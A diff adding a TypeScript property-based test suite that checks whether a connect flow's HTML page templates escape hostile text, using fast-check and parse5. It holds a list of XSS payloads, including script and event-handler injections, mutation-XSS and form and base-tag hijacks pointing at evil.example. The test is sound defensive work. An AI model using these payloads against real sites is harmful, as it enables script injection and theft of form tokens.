@@ -1,0 +1,238 @@
+import assert from 'node:assert/strict'
+import { readdir } from 'node:fs/promises'
+import fc from 'fast-check'
+import { type DefaultTreeAdapterTypes as Dom, parse } from 'parse5'
+import t from 'tap'
+import type { Provider } from '../../src/connect/providers.js'
+import { accessTypes, type EndStatus, locales } from '../../src/connect/session.js'
+import { ApiError } from '../../src/errors/api-error.js'
+import { activationPage } from '../../src/pages/activation-page.js'
+import { designationPage, hotelPage, importingPage, roomsPage } from '../../src/pages/claim-pages.js'
+import { credentialsPage } from '../../src/pages/credentials-page.js'
+import { donePage } from '../../src/pages/done-page.js'
+import type { FormContext } from '../../src/pages/form.js'
+import { type Content, page } from '../../src/pages/layout.js'
+import { accountPage, consentPage } from '../../src/pages/oauth-pages.js'
+import { pickerPage } from '../../src/pages/picker-page.js'
+import { problemPage } from '../../src/pages/problem-page.js'
+import { type Texts, textsOf } from '../../src/pages/texts.js'
+
+const pieces = [
+  ...['<', '>', '&', '"', "'", '`', '=', '/', '\n', '\t', ' ', ';', '$&', '--', '&#', '&lt', '\u2028'],
+  ...['</script>', '</style>', '</title>', '</noscript>', '</option>', '</select>', '</p>', '<!--', '-->'],
+  ...['<![CDATA[', ']]>', '<?', '<a', ' href=', ' onerror=', 'javascript:', 'brand-airbnb', '__proto__'],
+]
+
+const payloads = [
+  '<script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '</noscript><script>alert(1)</script>',
+  '</option></select><img src=x onerror=alert(1)>',
+  '</form><form action=https://evil.example><input name=formToken>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '" autofocus onfocus="alert(1)',
+  "' onmouseover='alert(1)",
+  '` onclick=`alert(1)',
+  'x onclick=alert(1) y',
+  'javascript:alert(1)//',
+  '<!-- <base href=//evil.example>',
+  ']]><!DOCTYPE x [<!ENTITY y "z">]>',
+  '&quot;&gt;&lt;b&gt;',
+  '&#34;&#x3c;b&#x3e;&amp;amp;',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  "$&$1$'{{2}}<%= 3 %>",
+]
+
+/** Texts as an attacker writes them. Without the two signs that every parser of HTML replaces: NUL and CR. */
+const hostileText = fc
+  .array(
+    fc.oneof(
+      { weight: 4, arbitrary: fc.constantFrom(...pieces) },
+      { weight: 1, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 4 }) },
+      { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 4 }) },
+    ),
+    { minLength: 1, maxLength: 12 },
+  )
+  .map((parts) => parts.join('').replace(/[\0\r]/g, '<'))
+
+/** What stands where a hostile text will. Its first sign occurs in no page otherwise. */
+const harmless = '§harmless'
+
+/** A provider with a text from outside wherever its type lets one in. */
+function providerOf(text: string): Provider {
+  return {
+    id: text,
+    displayName: text,
+    category: 'ota',
+    connectPattern: 'oauth',
+    status: 'beta',
+    description: text,
+    aliases: [text, text],
+    credentials: [`secret ${text}`],
+    color: text,
+  }
+}
+
+/** Every page template by its name: the contents that it makes of one text from outside. */
+const templates: Readonly<Record<string, (context: FormContext, text: string) => readonly Content[]>> = {
+  pickerPage: (context, text) => [
+    pickerPage(context, [providerOf(text), { ...providerOf(text), category: 'pms', status: 'live' }]),
+  ],
+  consentPage: (context, text) =>
+    accessTypes.map((accessType) => consentPage(context, providerOf(text), accessType, text)),
+  accountPage: (context, text) => [
+    accountPage(context, providerOf(text), { id: text, name: text }, text, text),
+  ],
+  credentialsPage: (context, text) => [
+    credentialsPage(context, providerOf(text), { fields: { [`secret ${text}`]: text }, whole: text }),
+  ],
+  activationPage: (context, text) => [
+    activationPage(context, providerOf(text), { username: text, password: text }, text),
+  ],
+  designationPage: (context, text) => [designationPage(context, providerOf(text), text)],
+  hotelPage: (context, text) => [
+    hotelPage(context, providerOf(text), text, text, { field: text, whole: text }),
+  ],
+  importingPage: (context, text) => [importingPage(context, providerOf(text), hotelOf(text))],
+  roomsPage: (context, text) => [
+    roomsPage(
+      context,
+      providerOf(text),
+      {
+        status: 'ready',
+        hotel: hotelOf(text),
+        mapping: { [`1${text}`]: `2${text}` },
+        listings: [1, 2].map((number) => ({ id: `${number}${text}`, name: text, city: text })),
+      },
+      text,
+      text,
+    ),
+  ],
+  donePage: ({ texts }, text) =>
+    ends.flatMap((status) => {
+      const view = { status, sessionId: text, provider: providerOf(text), accountName: text }
+      return [
+        donePage(texts, { ...view, returnUrl: `https://app.example/?${text}` }),
+        donePage(texts, { ...view, returnUrl: null }),
+      ]
+    }),
+  problemPage: ({ texts }, text) => {
+    const error = new ApiError('not_found', { message: text, fix: text })
+    const view = { error, requestId: text, provider: providerOf(text) }
+    return [
+      problemPage(texts, { ...view, returnUrl: text, againUrl: text }),
+      problemPage(texts, { ...view, returnUrl: null, againUrl: null }),
+    ]
+  },
+}
+
+/** What the published message of the last page is called, by what the session has become. */
+const messageTypes: Readonly<Record<EndStatus, string>> = {
+  completed: 'repull:connect:completed',
+  cancelled: 'repull:connect:close',
+  errored: 'repull:connect:error',
+}
+const ends = Object.keys(messageTypes) as EndStatus[]
+
+function hotelOf(text: string) {
+  const rooms = [1, 2].map((number) => ({
+    id: `${number}${text}`,
+    name: text,
+    maxGuests: number,
+    numberOfRooms: 1,
+  }))
+  return { id: text, name: text, type: text, city: text, country: text, rooms }
+}
+
+/** The whole page around a content, a text from outside in all that the layout takes as well. */
+function wholePage(texts: Texts, content: Content, text: string): string {
+  const ways = { approve: text, deny: text, expire: text }
+  return page({ texts, nonce: 'bm9uY2U', strip: { leftMs: 60_000, ways } }, content)
+}
+
+/** A node or an attribute of a parsed page: the names on the way to it, and its value. */
+interface Spot {
+  readonly place: string
+  readonly value: string
+}
+
+/** All spots of a document in tree order. Their places alone are its skeleton. */
+function spotsOf(node: Dom.Node, path = ''): readonly Spot[] {
+  const place = `${path}/${node.nodeName}`
+  const attributes =
+    'attrs' in node ? node.attrs.map(({ name, value }) => ({ place: `${place}@${name}`, value })) : []
+  const children = 'childNodes' in node ? node.childNodes.flatMap((child) => spotsOf(child, place)) : []
+  return [{ place, value: 'value' in node ? node.value : '' }, ...attributes, ...children]
+}
+
+/** What stands there in another form: names made plain, a message as JSON, markup that a browser with script skips. */
+const transformed = /@data-names$|@data-message$|\/noscript\/#text$/
+
+/** Whether a spot says with the hostile text what it says with the harmless one. */
+function isKept(before: Spot, after: Spot, text: string): boolean {
+  if (transformed.test(before.place)) return true
+  if (before.value === harmless.charAt(0)) return text.startsWith(after.value)
+  return after.value === before.value.replaceAll(harmless, () => text)
+}
+
+/** The spots of every page of a template, in all languages, for browsers with and without script. */
+function readPages(template: string, text: string): readonly (readonly Spot[])[] {
+  return locales.flatMap((locale) => {
+    const context = { texts: textsOf(locale), token: text }
+    const contents = templates[template]?.(context, text) ?? []
+    return contents.flatMap((content) => {
+      const markup = wholePage(context.texts, content, text)
+      return [true, false].map((scriptingEnabled) => spotsOf(parse(markup, { scriptingEnabled })))
+    })
+  })
+}
+
+for (const template of Object.keys(templates)) {
+  t.test(`${template} shows every text from outside as it is, and no text adds to the page`, async (t) => {
+    const expected = readPages(template, harmless)
+    const isExpectedSomewhere = (spots: readonly Spot[]) =>
+      spots.some(({ value }) => value.includes(harmless))
+    t.ok(expected.length > 0 && expected.every(isExpectedSomewhere), 'a text from outside is on every page')
+
+    const property = fc.property(hostileText, (text) => {
+      readPages(template, text).forEach((spots, at) => {
+        const before = expected[at] ?? []
+        assert.equal(spots.map(({ place }) => place).join('\n'), before.map(({ place }) => place).join('\n'))
+        const harmed = spots.filter((spot, nth) => !isKept(before[nth] as Spot, spot, text))
+        assert.deepEqual(harmed, [])
+      })
+    })
+    fc.assert(property, { examples: payloads.map((payload) => [payload]) })
+  })
+}
+
+t.test('there is no page template that the hostile texts are not tried on', async (t) => {
+  const folder = new URL('../../src/pages/', import.meta.url)
+  const files = (await readdir(folder)).filter((name) => name.endsWith('.ts'))
+  const modules = await Promise.all(
+    files.map((name) => import(new URL(name.replace(/ts$/, 'js'), folder).href)),
+  )
+  const names = modules.flatMap((module) => Object.keys(module)).filter((name) => name.endsWith('Page'))
+  t.strictSame(Object.keys(templates).sort(), names.sort())
+})
+
+t.test('the last page tells the app what became of which session, whatever its id is', async () => {
+  const providers = fc.option(hostileText.map(providerOf))
+  const property = fc.property(
+    fc.constantFrom(...ends),
+    hostileText,
+    providers,
+    (status, sessionId, provider) => {
+      const view = { status, sessionId, provider, accountName: null, returnUrl: 'https://app.example/' }
+      const markup = wholePage(textsOf('en'), donePage(textsOf('en'), view), harmless)
+      const messages = spotsOf(parse(markup)).filter(({ place }) => place.endsWith('@data-message'))
+      assert.deepEqual(
+        messages.map(({ value }) => JSON.parse(value)),
+        [{ type: messageTypes[status], provider: provider?.id ?? null, sessionId }],
+      )
+    },
+  )
+  fc.assert(property, { examples: payloads.map((payload) => ['completed', payload, null]) })
+})
